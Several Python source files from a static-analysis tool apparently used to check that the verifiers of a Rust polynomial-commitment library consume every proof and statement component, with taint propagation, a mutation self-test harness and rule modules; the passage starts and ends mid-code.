            self.edge((kid, 0), Edge(d, DATA, "foreign", None, dst_ty, site=site, cs=("out", site, kid)))
            for m in [x for x in arg_loc if x is not None and self._mutb(b, x)]:
                self.edge((kid, 0), Edge((bid, m), DATA, "foreign", None, self.lty(b, m), cs=("out", site, kid)))
            if is_closure:
                env_ty = kb.locals[1]["ty"] if len(kb.locals) > 1 else None
                self.edge((bid, l), Edge((kid, 1), DATA, MOVE, None, env_ty, cs=("in", ("env", kid), kid)))
                self.edge((kid, 1), Edge((bid, l), ALIAS, MOVE, None, self.lty(b, l), cs=("out", ("env", kid), kid)))
            ctrl_to_ctl(kid)

    # ------------------------------------------------------------------ typed propagation
    def node_ty(self, n):
        if isinstance(n, tuple) and len(n) == 2 and isinstance(n[1], int) and n[1] >= 0 and n[0] in self.facts.bodies:
            return self.facts.bodies[n[0]].locals[n[1]]["ty"]
        return None

    def node_bounds(self, n):
        if isinstance(n, tuple) and len(n) == 2 and isinstance(n[1], int) and n[1] >= 0 and n[0] in self.facts.bodies:
            return self.facts.bodies[n[0]].locals[n[1]].get("bounds")
        return None

    def _is_whole(self, n, ty):
        if ty is None:
            return True
        nt = self.node_ty(n)
        if nt is None:
            return True
        return strip_refs(nt) == strip_refs(ty)

    def step(self, n, ty, e, typed=True):
        """propagate taint (n, ty) over edge e: returns list of new types at e.dst ([] = blocked)."""
        if not typed:
            return [None]
        whole = self._is_whole(n, ty)
        cur = ty
        op = e.op
        if op == DISCR or (e.blind and op == "foreign"):
            op = SHAPE
        # 1. read-side projection chain
        if op in (FIELDSRC, "fieldshape"):
            fty = e.chain[0][1]
            if ty is None or fty is None or strip_refs(fty) == strip_refs(ty):
                whole = True
                cur = fty
            elif may_contain(fty, ty):
                whole = False       # only the payload of type `ty` inside the field is the tainted thing
                cur = ty
            else:
                return []
            chain = e.chain[1:]
            op = MOVE if op == FIELDSRC else SHAPE
        else:
            chain = e.chain or ()
        for ce in chain:
            k, t = ce[0], ce[1]
            if whole:
                cur = t
                continue
            if k == "dc" or t is None:
                continue   # same value / unknown type after this step: assume it may hold the value
            if may_contain(t, cur):
                if strip_refs(t) == strip_refs(cur):
                    whole = True
                    cur = t
                continue
            return []
        if whole and cur is None:
            cur = self.node_ty(n)
        # 2. the operation
        dty = e.dst_ty if e.dst_ty is not None else self.node_ty(e.dst)
        if e.dst == OUTCOME:
            if op == SHAPE and not whole:
                return []
            return [None]
        if e.kind == CTRL:
            if op == SHAPE and not whole:
                return []
            return [dty]
        if op == FRESH or op == COMPUTE:
            return [dty]
        if op == "callres":
            # source: the result of a call; with a payload type only the elements of that type inside it
            if ty is None or dty is None or strip_refs(dty) == strip_refs(ty):
                return [dty]
            return [ty] if may_contain(dty, ty) else []
        if op == SHAPE:
            return [dty] if whole else []
        if op in (MOVE, "hof"):
            cands = [cur]
            if e.subst and cur is not None:
                hits = [f for (f, a) in e.subst if strip_refs(a) == strip_refs(cur)]
                if hits:
                    cands = hits
            if e.rsubst and cur is not None:
                c = strip_refs(cur)
                for (f, a) in e.rsubst:
                    if c == f:
                        cands = [a]
                        break
                    if _bare(f) and re.search(r"(?<![A-Za-z0-9_:])%s(?![A-Za-z0-9_])" % re.escape(f), c):
                        cands = [re.sub(r"(?<![A-Za-z0-9_:])%s(?![A-Za-z0-9_])" % re.escape(f), a, c)]
                        break
            out = []
            for c in cands:
                if dty is None or c is None or may_contain(dty, c, self.node_bounds(e.dst)):
                    out.append(c)
                elif op == "hof" and not whole:
                    # a container / iterator of X handed to a closure that takes X: the closure sees the elements
                    # (type arguments may be spelled differently on the two sides - `Self::Commitment` vs the
                    # concrete type - so the head of the parameter type is what is looked for)
                    head = re.sub(r"<.*$", "", strip_refs(dty or "")).rsplit("::", 1)[-1]
                    if head and len(head) > 1 and c is not None and \
                            re.search(r"(?<![A-Za-z0-9_])%s(?![A-Za-z0-9_])" % re.escape(head), c) is not None:
                        out.append(dty)
                    # otherwise: an element handed to a closure parameter that cannot hold it
                    continue
                else:
                    # embedded in a value whose type does not spell out its contents (a struct literal, a
                    # reference to one, a generic parameter of the callee): from here on that value as a
                    # whole is the tainted thing
                    out.append(dty)
            return out
        if op == "foreign":
            # unknown callee: the value is embedded in / carried by the result when the result type can hold
            # it, otherwise it was transformed into something of the result's type
            if dty is not None and cur is not None and may_contain(dty, cur, self.node_bounds(e.dst)):
                return [cur]
            return [dty]
        return [dty]

    K_LIMIT = 4

    def _stack_step(self, stack, cs):
        """call-string matching (k-limited): returns new stack or None when the exit does not match."""
        if cs is None:
            return stack
        kind, site, body = cs
        if kind == "in":
            ns = stack + ((site, body),)
            if len(ns) > self.K_LIMIT:
                ns = ns[-self.K_LIMIT:]
            return ns
        # out
        if not stack:
            return stack
        tsite, tbody = stack[-1]
        if tbody != body:
            # we are inside `body` without a frame for it (entered below the k-limit horizon): unbalanced exit
            return stack
        if tsite == site or (isinstance(site, tuple) and site[0] == "env") or (isinstance(tsite, tuple) and tsite[0] == "env"):
            return stack[:-1]
        return None

    def reach(self, starts, cut=None, want=None, typed=True, kinds=None, context=True):
        """forward reachability over typed, call-string-qualified states.
        starts: nodes, or ("STATE", node, ty) triples. cut(node, edge) -> True drops the edge.
        Returns parent map over states (node, ty, stack)."""
        parent = {}
        dq = deque()
        for s in starts:
            if isinstance(s, tuple) and len(s) == 3 and s[0] == "STATE":
                st = (s[1], s[2], ())
            else:
                st = (s, None, ())
            if st not in parent:
                parent[st] = None
                dq.append(st)
        goal = None
        while dq:
            st = dq.popleft()
            n, ty, stack = st
            if want is not None and n == want:
                goal = st
                break
            for e in self.fwd.get(n, ()):
                if kinds is not None and e.kind not in kinds:
                    continue
                if cut is not None and cut(n, e):
                    continue
                nstack = self._stack_step(stack, e.cs) if context else ()
                if nstack is None:
                    continue
                for nty in self.step(n, ty, e, typed):
                    if e.dst == OUTCOME:
                        ns = (OUTCOME, None, ())
                    else:
                        ns = (e.dst, nty, nstack)
                    if ns not in parent:
                        parent[ns] = st
                        dq.append(ns)
        self.last_goal = goal
        return parent

    def reaches(self, parent, node):
        for st in parent:
            if st[0] == node:
                return st
        return None

    def path(self, parent, state):
        out = []
        x = state
        while x is not None:
            out.append(x)
            x = parent[x]
        return list(reversed(out))

    def fmt_node(self, n):
        if n == OUTCOME:
            return OUTCOME
        if isinstance(n, tuple) and n[0] in ("FIELD", "CALLRES"):
            return ":".join(str(x) for x in n)
        bid, l = n
        if l == -1:
            return "%s#ctl" % bid
        b = self.facts.bodies[bid]
        nm = b.locals[l].get("name")
        return "%s#_%d%s" % (bid, l, "(%s)" % nm if nm else "")


# ---------------------------------------------------------------------- payload mode
def elem_sets(g, base):
    """per-body sets of type strings that denote the element type. Spelled-out types apply everywhere; a
    bare type-parameter name (`F`, `D`) applies in the anchor bodies and trait impl methods, and is carried
    into generic callees through the substitution recorded at each call site."""
    f = g.facts
    glob = {t for t in base if not _bare(t)}
    bare = {t for t in base if _bare(t)}
    sets = {}
    for bid in g.scope:
        b = f.bodies[bid]
        root = f.bodies.get(b.root, b)
        s = set(glob)
        if bid in g.anchors or b.root in g.anchors or root.impl_trait or root.in_trait:
            s |= bare
        sets[bid] = s
    changed = True
    while changed:
        changed = False
        for bid in g.scope:
            b = f.bodies[bid]
            if b.kind == "Closure" and b.root in sets:
                add = sets[b.root] - sets[bid]
                if add:
                    sets[bid] |= add
                    changed = True
            for _, t in b.calls():
                for tgt in f.call_targets(t, g.ctx_adt):
                    if tgt not in sets:
                        continue
                    sub = t.get("subst")
                    if not sub:
                        continue
                    for formal, actual in sub:
                        if actual in sets[bid] and formal not in sets[tgt]:
                            sets[tgt].add(formal)
                            changed = True
    return sets


def payload_nodes(g, starts, elem_tys, max_depth=60):
    """first-generation payload locals: locals whose type (refs stripped) is exactly an element type and
    that are derived from `starts` through DATA edges over carrier locals only (locals whose type mentions
    the element type, or whose type is opaque to us). Returns dict payload_node -> path from a start."""
    sets = elem_sets(g, elem_tys)

    def tys_of(n):
        if isinstance(n, tuple) and len(n) == 2 and n[0] in sets:
            return sets[n[0]]
        return ()

    def synthetic(n):
        return isinstance(n, tuple) and len(n) == 2 and n[0] in g.facts.bodies and isinstance(n[1], int) \
            and n[1] >= 0 and g.facts.bodies[n[0]].locals[n[1]].get("synthetic")

    def is_payload(n):
        ty = g.node_ty(n)
        return ty is not None and strip_refs(ty) in tys_of(n) and not synthetic(n)

    def is_carrier(n):
        if synthetic(n):
            return True     # one side of a zip item: the local bound from it is the payload local
        ty = g.node_ty(n)
        if ty is None:
            return isinstance(n, tuple) and n[0] in ("FIELD", "CALLRES")
        if any(may_contain(ty, t) for t in tys_of(n)):
            return True
        return opaque_container(ty, g.node_bounds(n)) or "bounds" in g.facts.bodies[n[0]].locals[n[1]]

    parent = {}
    found = {}
    dq = deque()
    for s in starts:
        parent[s] = None
        dq.append((s, 0))
        if is_payload(s):
            found[s] = [s]
    while dq:
        a, d = dq.popleft()
        if a in found or d > max_depth:
            continue
        for e in g.fwd.get(a, ()):
            b = e.dst
            if e.kind != DATA or b in parent or b == OUTCOME:
                continue
            if e.op in (SHAPE, DISCR, COMPUTE, "fieldshape"):
                continue
            if is_payload(b):
                parent[b] = a
                p = []
                x = b
                while x is not None:
                    p.append(x)
                    x = parent[x]
                found[b] = list(reversed(p))
                continue
            if is_carrier(b):
                parent[b] = a
                dq.append((b, d + 1))
    return found
