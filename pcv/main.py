import argparse
import importlib
import json
import os
import sys

from .engine import Ctx, Report, finish

TRUSTED = ["rustc nightly HIR/MIR construction and trait resolution", "pcv-driver fact extractor (driver/src)",
           "conservative model of calls into other crates (pcv/flow.py)", "frozen tables in pcv/tables.py"]
ASSUME = ["the crate's own types have no interior mutability (checked by the C19 type walk)",
          "a call into another crate writes only through arguments that may hold a mutable borrow",
          "structural necessary conditions only: passing does not establish the behavioural property"]


def run_property(prop, tier):
    mod = importlib.import_module("pcv.props.%s" % prop.lower())
    cfgs = list(getattr(mod, "CONFIGS_THOROUGH" if tier == "thorough" else "CONFIGS_QUICK", ["default"]))
    ctxs = [Ctx(c) for c in cfgs]
    rep = Report(prop, tier, cfgs)
    for c in ctxs:
        mod.run(rep, c, tier)
    if hasattr(mod, "run_cross"):
        mod.run_cross(rep, ctxs, tier)
    if tier == "thorough":
        # self-test of the checker (evidence about the checker, not a verdict on the tree): every registered
        # mutant of this property must be reported, every refactoring fixture must stay silent
        from .mutate import selftest
        base = sorted({i["key"] for i in rep.instances if not i["ok"]})
        rep.selftest = selftest(prop, base)
        st = rep.selftest
        print("self-test: %d mutants, %d caught, %d silent fixtures ok, missed=%s false_alarms=%s known_misses=%s skipped=%s" % (
            st.get("mutants", 0), st.get("caught", 0), st.get("silent_ok", 0), st.get("missed"), st.get("false_alarms"),
            st.get("known_misses"), st.get("skipped")))
    return finish(rep, ctxs, mod.EXPLANATION, mod.RULE, TRUSTED + getattr(mod, "TRUSTED", []),
                  ASSUME + getattr(mod, "ASSUME", []))


def main(argv):
    ap = argparse.ArgumentParser()
    ap.add_argument("prop", nargs="?")
    ap.add_argument("--tier", default=os.environ.get("VERIF_TIER", "quick"))
    ap.add_argument("--replay")
    a = ap.parse_args(argv)
    if a.replay:
        with open(a.replay) as f:
            r = json.load(f)
        print("replaying %s (%s)" % (r["key"], r["detail"]))
        return run_property(r["property"], r.get("tier", "quick"))
    if not a.prop:
        ap.error("property id required")
    tier = a.tier if a.tier in ("quick", "thorough") else "quick"
    return run_property(a.prop.upper(), tier)
