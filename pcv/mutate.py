"""Self-test support: apply a diff to a scratch copy of /repo, extract facts there, run a property's rules.

The scratch copy lives under $TMPDIR (never under /repo or /verif) and is removed afterwards."""
import json
import os
import shutil
import subprocess
import sys
import tempfile
import importlib

from .extract import REPO, VERIF, CACHE
from .engine import Ctx, Report

MUT_DIR = os.path.join(VERIF, "mutants")


def make_scratch(repo=None):
    repo = repo or REPO
    d = tempfile.mkdtemp(prefix="pcv-scratch-")
    dst = os.path.join(d, "repo")
    subprocess.check_call(["rsync", "-a", "--exclude", "target", "--exclude", ".git", repo + "/", dst + "/"])
    return d, dst


def apply_diff(dst, diff_path):
    diff_path = os.path.abspath(diff_path)
    r = subprocess.run(["patch", "-p1", "-s", "--no-backup-if-mismatch", "-i", diff_path], cwd=dst,
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return r.returncode == 0, r.stdout


def run_on(dst, prop, cfg="default", tier="quick"):
    """run property `prop` rules on the tree at dst; returns list of (key, ok, detail)."""
    mod = importlib.import_module("pcv.props.%s" % prop.lower())
    ctx = Ctx(cfg, repo=dst)
    rep = Report(prop, tier, [cfg])
    mod.run(rep, ctx, tier)
    if hasattr(mod, "run_cross"):
        cfgs = getattr(mod, "CROSS_CONFIGS", None)
        if cfgs:
            ctxs = [ctx if c == cfg else Ctx(c, repo=dst) for c in cfgs]
            mod.run_cross(rep, ctxs, tier)
    return rep.instances


def violations_with(diff_path, prop, cfg="default"):
    d, dst = make_scratch()
    try:
        ok, out = apply_diff(dst, diff_path)
        if not ok:
            return None, "diff does not apply: " + out[-300:]
        try:
            inst = run_on(dst, prop, cfg)
        except SystemExit as e:
            return None, "mutant does not build: %s" % e
        return sorted({i["key"] for i in inst if not i["ok"]}), None
    finally:
        shutil.rmtree(d, ignore_errors=True)


WORKERS = int(os.environ.get("PCV_SELFTEST_WORKERS", "6"))


def _worker_init(q):
    os.environ["PCV_WORKER"] = str(q.get())


def _worker_run(args):
    mid, path, prop, cfg = args
    try:
        return mid, violations_with(path, prop, cfg)
    except BaseException as e:      # a worker must always report back
        return mid, (None, "self-test worker failed: %r" % (e,))


def _run_parallel(todo, prop):
    """{mutant id: (violations or None, error)}; mutants are independent, so they are analysed by a small pool of
    worker processes, each with its own cargo target directory."""
    jobs = [(m["id"], os.path.join(MUT_DIR, m["file"]), prop, m.get("cfg", "default")) for m in todo]
    n = max(1, min(WORKERS, len(jobs)))
    if n == 1:
        return dict(_worker_run(j) for j in jobs)
    import multiprocessing as mp
    ctx = mp.get_context("fork")
    q = ctx.Queue()
    for k in range(n):
        q.put(k)
    with ctx.Pool(n, initializer=_worker_init, initargs=(q,)) as pool:
        return dict(pool.map(_worker_run, jobs, chunksize=1))


def selftest(prop, baseline_violations):
    """run every mutant registered for `prop`; a mutant is caught if it adds one of its expected keys to the
    violations of the unmodified tree; a refactoring fixture must add nothing."""
    idx_path = os.path.join(MUT_DIR, "index.json")
    if not os.path.exists(idx_path):
        return dict(mutants=0)
    with open(idx_path) as f:
        idx = json.load(f)
    base = set(baseline_violations)
    res = []
    todo = [m for m in idx if prop in m["properties"]]
    outcomes = _run_parallel(todo, prop)
    for m in todo:
        v, err = outcomes[m["id"]]
        if v is None:
            res.append(dict(id=m["id"], status="skipped", reason=err))
            continue
        added = sorted(set(v) - base)
        if m.get("silent"):
            status = "ok-silent" if not added else "FALSE-ALARM"
        else:
            exp = [e for e in m.get("expect", []) if e.startswith(prop + ":")]
            if exp:
                status = "caught" if all(any(a == e or a.startswith(e) for a in added) for e in exp) else "MISSED"
            else:
                status = "caught" if added else "MISSED"
        if status == "MISSED" and m.get("known_miss"):
            status = "known-miss"
        res.append(dict(id=m["id"], status=status, added=added[:6], what=m.get("what"), note=m.get("known_miss")))
    return dict(mutants=len(res), caught=sum(1 for r in res if r["status"] == "caught"),
                silent_ok=sum(1 for r in res if r["status"] == "ok-silent"),
                missed=[r["id"] for r in res if r["status"] == "MISSED"],
                known_misses=[r["id"] for r in res if r["status"] == "known-miss"],
                false_alarms=[r["id"] for r in res if r["status"] == "FALSE-ALARM"],
                skipped=[r["id"] for r in res if r["status"] == "skipped"], results=res)


if __name__ == "__main__":
    # python3 -m pcv.mutate <diff> <prop> [cfg]
    v, err = violations_with(sys.argv[1], sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else "default")
    if v is None:
        print("ERROR", err)
        sys.exit(2)
    for k in v:
        print(k)
