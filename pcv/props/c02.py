"""C02: statement components (claimed value, point, commitment) reach the verifier's decision."""
from ..rules import influence as R1
from ..rules import everyiter as R1D

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static may-influence analysis (R1) over the compiler's MIR of every verifier entry point and everything it "
    "calls in the crate. For each verifier and each part of the statement (claimed values, evaluation point / query "
    "set, each commitment payload field) the interprocedural dependence graph must contain a path from that part to "
    "the verifier's outcome (its return value or a branch that aborts). The graph over-approximates dependence, so a "
    "missing path proves the part cannot affect acceptance: an accepted transcript stays accepted when that part is "
    "changed, which is what C02 forbids. R1d: where a verifier loop extracts the claimed value per element, no path "
    "inside the loop leads from the extraction to the next iteration without consuming the value (a `continue` that "
    "jumps over the comparison lets that claim through while the comparison is still present in the function). "
    "R5v: every lookup in the map of claimed evaluations sits (directly or through the calls leading to it) in a "
    "loop whose cursor is data-derived from the query set, so which claims are compared is decided by the queries "
    "and not by some other collection. R1p: in the verifiers that decide one (commitment, value) pair per loop iteration (Hyrax, the linear-code schemes) "
    "a working variable holding scheme data is not carried from one pair into the next unless it is an accumulator "
    "read after the loop. "
    "Decides these structural necessary conditions only, not the algebra.")
EXPLANATION += (" Shared rules: R1 / R15 (the batching combiner of the five combining verifiers is live and re-drawn per query), R5i (no verifier extends the claims map), R4s (no positional pairing after an element-dropping adaptor on one side), R17 (a vector a verifier de-duplicates has been sorted).")
RULE = ("instances = verifier anchors x {values, point, commitment fields}; container-typed parameters are followed "
        "to the element locals extracted from them (payload mode); an instance holds iff OUTCOME is reachable; "
        "non-trivial = the source exists in the analysed bodies")


PER_CLAIM_LOOPS = ("hyrax.check", "linear_codes.check")


def run(rep, ctx, tier):
    missing = []
    anchors = ctx.verifier_anchors(missing)
    for k in missing:
        rep.add("R1", "%s:anchor" % k, False, "verifier anchor %s not found in the crate (fail closed)" % k, None)
    rep.count("anchors[%s]" % ctx.cfg, len(anchors))
    scope_union = set()
    for a in anchors:
        g = ctx.graph(a)
        rep.count("bodies_in_scope", len(g.scope))
        rep.count("edges", g.n_edges)
        rep.count("call_sites", g.call_sites)
        for name, comp in R1.statement_components(a):
            ok, detail, where, n = R1.component(ctx, a, comp)
            rep.add("R1", "%s:%s" % (a.key, name), ok, detail, where or a.body.span, nontrivial=n > 0)
        rep.count("values_extracted_in_loops", R1D.run_values(rep, ctx, a, "R1d"))
        # a verdict (or any other per-claim result) computed per loop iteration is accumulated, not overwritten
        rep.count("bodies_with_loops", R1D.run_last_value(rep, ctx, a, "R1L"))
        from . import c05 as C05
        if a.key in C05.COMBINING:
            # a batched false claim is caught only if the combiner is live and re-drawn per query (shared with C05)
            C05.combiner_rules(rep, ctx, a, a.key)
        if a.key in PER_CLAIM_LOOPS:
            # the verifiers that decide one (commitment, value) pair per loop iteration: apart from the sponge, nothing
            # that holds scheme data survives from one pair into the next unless it is an accumulator read after the loop
            from ..rules import carried as R1P
            nl, nc = R1P.run(rep, ctx, a.key, [a.body.id], a.ctx_adt, "R1p")
            rep.count("R1p loops", nl)
            # (no floor: a refactoring that turns the per-pair loop into an iterator pipeline leaves nothing to examine)
        if a.method in ("batch_check", "check_combinations"):
            # the claim of every query is looked up: the lookups are driven by the query set
            from ..rules import visited as R5V
            rep.count("claim lookups", R5V.run(rep, ctx, a, "R5v"))
            R5V.run_update_once(rep, ctx, a, "R5u")
            # no verifier adds entries to (a copy of) the claims it was handed (shared with C17)
            from ..rules import noinsert as R5I
            R5I.run(rep, ctx, a, "R5i")
            # no positional pairing after an element-dropping adaptor (shared with C03)
            from ..rules import lenguard as R4
            R4.run_shifted_pairing(rep, ctx, a, "R4s")
            scope_union.update(g.scope)
            # queries are never de-duplicated by label alone
            from ..rules import dedup as R5K
            R5K.run(rep, ctx, a, "R5k")
    # what a batch / combination verifier de-duplicates or binary-searches has been sorted (shared with C04 / C16): a
    # `dedup` on claims that are not sorted by the de-duplication key drops claims that merely neighbour an equal key
    from ..rules import sorted as R17
    rep.count("R17 dedup sites", R17.run_dedup(rep, ctx, scope_union, "R17"))

