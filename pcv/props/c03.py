"""C03: shape and verdict discipline of the verifiers against crafted / malformed proofs."""
from .. import tables as T
from ..rules import influence as R1
from ..rules import verdict as R3
from ..rules import lenguard as R4
from ..rules import meet as R1M
from ..rules import everyiter as R1D
from ..rules import fsbind as RFS
from . import c05 as C05

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Three static rules over the MIR of every verifier and its callees. R3: the boolean inside every "
    "Result<bool,_> produced by a nested verifier or by Merkle path verification must reach the outcome (a verdict "
    "that is computed and dropped rejects nothing). R1: the payload of every proof field (not merely its shape) must "
    "reach the decision with the transcript cut, so no proof component can be replaced freely. R4: wherever the "
    "verifier zips an adversary-sized proof list with the claims, or encodes a vector taken from the proof, a length "
    "comparison must dominate that use - zip and Reed-Solomon encoding silently accept short / stretched inputs. "
    "R4r: in the IPA verifier every call of the succinct check is dominated by a refusal on an equality comparison of the "
    "number of rounds (len of proof.l_vec) with a value that does not come from the proof - with an extra round the "
    "recomputation of the final key silently truncates the check polynomial and any value can be proved (F8). "
    "RFS: in the IPA verifier every group element of the proof that is multiplied by a hash-derived challenge is "
    "itself an input of a challenge derivation (otherwise the prover can choose it after the challenge). "
    "R1m: listed pairs of transcript components (opened columns vs the encoding of the opening / well-formedness "
    "vector, leaf index vs transcript-derived index, commitment vs witness, ...) meet in a comparison whose result "
    "reaches the outcome - liveness of each alone does not show they are checked against each other. "
    "R4c: a for loop driven by a zip of a vector *field* of the proof with something that is not proof-derived "
    "must be length-guarded or the vector must also be accessed by position (bounds-checked): otherwise the proof "
    "decides how many of the expected positions are checked at all. "
    "These are necessary conditions of C03's shape clauses (empty or truncated proof lists, stretched vectors, "
    "foreign authentication paths); the cryptographic infeasibility of forging is out of reach of this technique.")
# pairs of transcript components the verifier must compare with each other (anchor key -> [(name, A, B)])
LP = "linear_codes::data_structures::"
MEETS = {
    "linear_codes.check": [
        ("columns~E(v)", ("field", LP + "LinCodePCProofSingle", "columns", T.SCALARS), ("field", LP + "LinCodePCProofSingle", "v", T.SCALARS)),
        ("columns~E(well_formedness)", ("field", LP + "LinCodePCProofSingle", "columns", T.SCALARS), ("field", LP + "LinCodePCProof", "well_formedness", T.SCALARS)),
        ("leaf_index~transcript-index", ("field", "ark_crypto_primitives::merkle_tree::Path", "leaf_index", None), ("squeeze", "squeeze_bytes", ["u8"])),
        ("v~claimed-value", ("field", LP + "LinCodePCProofSingle", "v", T.SCALARS), ("param", "values", T.SCALARS)),
    ],
    "kzg10.check": [
        ("commitment~witness", ("field", "kzg10::data_structures::Commitment", "0", None), ("field", "kzg10::data_structures::Proof", "w", None)),
        ("value~witness", ("param", "values", T.SCALARS), ("field", "kzg10::data_structures::Proof", "w", None)),
    ],
    "hyrax.check": [
        ("row_coms~z", ("field", "hyrax::data_structures::HyraxCommitment", "row_coms", None), ("field", "hyrax::data_structures::HyraxProof", "z", T.SCALARS)),
        ("com_eval~z_b", ("field", "hyrax::data_structures::HyraxProof", "com_eval", None), ("field", "hyrax::data_structures::HyraxProof", "z_b", None)),
        ("com_eval~claimed-value", ("field", "hyrax::data_structures::HyraxProof", "com_eval", None), ("param", "values", T.SCALARS)),
    ],
    "multilinear.check": [
        ("commitment~proofs", ("field", "multilinear_pc::data_structures::Commitment", "g_product", None), ("field", "multilinear_pc::data_structures::Proof", "proofs", T.G2A)),
    ],
    "streaming.verify": [
        ("commitment~proof", ("field", "streaming_kzg::Commitment", "0", None), ("field", "streaming_kzg::EvaluationProof", "0", None)),
    ],
}


# pairs that must meet on every non-refusing path (not only when a particular option of the scheme is on)
EVERY_PATH = {"columns~E(v)", "v~claimed-value", "commitment~witness", "value~witness", "row_coms~z", "com_eval~z_b",
              "com_eval~claimed-value", "commitment~proofs", "commitment~proof"}


def meet_starts(ctx, a, spec):
    from ..flow import payload_nodes
    g = ctx.graph(a)
    f = ctx.facts
    kind = spec[0]
    if kind == "field":
        n = ("FIELD", spec[1], spec[2])
        if n not in g.fwd:
            return []
        return [("STATE", n, t) for t in spec[3]] if spec[3] else [n]
    if kind == "param":
        idx = a.roles.get(spec[1])
        if idx is None:
            return []
        return list(payload_nodes(g, [(a.body.id, idx)], spec[2]).keys())
    if kind == "squeeze":
        out = []
        for bid in g.scope:
            for i, t in f.bodies[bid].calls():
                if t.get("callee_trait") == T.SPONGE_TRAIT and (t.get("callee") or "").endswith("::" + spec[1]):
                    out.extend(("STATE", ("CALLRES", bid, i), ty) for ty in spec[2])
        return out
    return []


EXPLANATION += (" Shared rules: R15 / R1 on the combining batch verifiers, R1d and R5o on the coefficients of check_combinations, R4s (no positional pairing after an element-dropping adaptor on one side), R4a lock-step form, the absence form of R3, R1L.")
RULE = ("instances = verdict call sites + verifier x proof field + proof-vs-claims zip sites + encode calls on proof "
        "vectors; an instance holds iff the flow / dominance fact is established on the type-checked program")


ABSORBED = {
    "hyrax": ["param:key", "commitment.row_coms", "param:point", "proof.com_eval", "proof.com_d", "proof.com_b"],
    "linear_codes": ["commitment.root", "param:point", "proof.v", "proof.well_formedness"],
}


def run(rep, ctx, tier):
    missing = []
    anchors = ctx.verifier_anchors(missing)
    for k in missing:
        rep.add("R1", "%s:anchor" % k, False, "verifier anchor %s not found in the crate (fail closed)" % k, None)
    rep.count("anchors[%s]" % ctx.cfg, len(anchors))
    zips = 0
    for a in anchors:
        g = ctx.graph(a)
        rep.count("bodies_in_scope", len(g.scope))
        R3.run(rep, ctx, a, "R3")
        R3.run_option(rep, ctx, a, "R3")
        # a verdict computed per item is accumulated, not overwritten by the last item's
        R1D.run_last_value(rep, ctx, a, "R1L")
        for name, comp in R1.proof_components(a, ctx.facts):
            ok, detail, where, n = R1.component(ctx, a, comp, cut_sponge=True)
            rep.add("R1", "%s:%s" % (a.key, name), ok, detail, where or a.body.span, nontrivial=n > 0)
        for name, sa, sb in MEETS.get(a.key, []):
            A, B = meet_starts(ctx, a, sa), meet_starts(ctx, a, sb)
            if not A or not B:
                rep.add("R1m", "%s:meet:%s" % (a.key, name), False, "component not found in %s (fail closed)" % a.key, a.body.span)
                continue
            ok, detail, where = R1M.check(ctx, a, A, B)
            rep.add("R1m", "%s:meet:%s" % (a.key, name), ok, "%s: %s" % (name, detail), where)
            if ok and name in EVERY_PATH:
                ok2, detail2, where2 = R1M.check_every_path(ctx, a, A, B)
                rep.add("R1m", "%s:meet-on-every-path:%s" % (a.key, name), ok2, "%s: %s" % (name, detail2), where2 or where)
        if a.info.get("adt") == "ipa_pc::InnerProductArgPC":
            R4.run_rounds(rep, ctx, a, "ipa_pc::data_structures::Proof", "l_vec", "::succinct_check", "R4r")
        if a.info.get("adt") == "ipa_pc::InnerProductArgPC" and a.method in ("check", "batch_check"):
            nd = RFS.run(rep, ctx, a, [(e[0], e[1], e[2] if len(e) > 2 else None) for e in a.info["proof"]
                                       if e[1] in ("l_vec", "r_vec", "hiding_comm")], "RFS")
            if nd < 1:
                rep.add("RFS", "%s:floor" % a.key, False, "no digest-based challenge derivation found in the IPA verifier (fail closed)", a.body.span)
        nz = R4.run_zip(rep, ctx, a, "R4a")
        if nz == 0 and a.method in ("batch_check", "check_combinations"):
            nz = R4.run_positional(rep, ctx, a, "R4a")
        if nz == 0 and a.method in ("batch_check", "check_combinations"):
            nz = R4.run_lockstep(rep, ctx, a, "R4a")
        zips += nz
        padts = {e[0] for e in a.info["proof"]}
        rep.count("loop_zips_over_proof_vectors", R4.run_loopzip(rep, ctx, a, padts, "R4c"))
        # no positional pairing (zip / enumerate-as-index) after an element-dropping adaptor on one side only
        rep.count("shifted_pairings", R4.run_shifted_pairing(rep, ctx, a, "R4s"))
        if a.key in C05.COMBINING:
            # batched evaluation binding rests on a combiner that is live and re-drawn per query (shared with C05)
            C05.combiner_rules(rep, ctx, a, a.key)
        if a.method == "check_combinations" and ("FIELD", "data_structures::LinearCombination", "terms") in g.fwd:
            # every term's coefficient enters the combined claim (shared with C06)
            R1D.run_values(rep, ctx, a, "R1d", role="coefficients", what="coefficient of an equation term",
                           starts=[("FIELD", "data_structures::LinearCombination", "terms")])
            from ..rules import overwrite as R5O
            R5O.run(rep, ctx, a, ("FIELD", "data_structures::LinearCombination", "terms"), "R5o")
        if a.info.get("adt") == "linear_codes::LinearCodePCS":
            n = R4.run_encode(rep, ctx, a, "R4b")
            if n == 0:
                rep.add("R4b", "%s:encode-input" % a.key, False,
                        "no call of LinearEncode::encode on a proof vector found in the linear-code verifier "
                        "(anchor moved? fail closed)", a.body.span)
    # RFSs: what the sponge-driven verifiers bind into their challenges. For the two schemes whose `check` absorbs into
    # the sponge itself, the set of statement / proof components that reach an absorb is frozen here from the tree as
    # confirmed by reading (the prover messages that precede the challenge, the commitment, the point, the key). R7
    # compares prover and verifier with each other; an absorb dropped on *both* sides keeps them in step and is seen
    # only against this reference: a message left out of the transcript can be chosen after the challenge.
    from ..rules import schedule as R7
    from . import c11 as C11
    f = ctx.facts
    for sk, want in ABSORBED.items():
        info = T.SCHEMES[sk]
        vb = C11.find_method(f, info["adt"], "check")
        if vb is None or vb.id not in f.hir:
            rep.add("RFS", "%s.check:absorbs" % sk, False, "check of %s not found (fail closed)" % sk, None)
            continue
        ve = R7.Extractor(ctx, info["adt"], vb, T.ROLES["check"], C11.proof_adts(info), C11.COMMITMENT_ADTS, C11.KEY_ADTS)
        got = set()

        def flat(items):
            for it in items:
                if it[0] == "loop":
                    flat(it[1])
                elif it[0] == "branch":
                    for arm in it[2:]:
                        flat(arm)
                elif it[0] == "absorb":
                    got.update(str(it[1]).split("|"))
        flat(R7.normalise(ve.schedule(f.hir[vb.id], 0, (vb.id,))))
        got_fields = {x.rsplit(".", 1)[-1] for x in got if "." in x}
        for w in want:
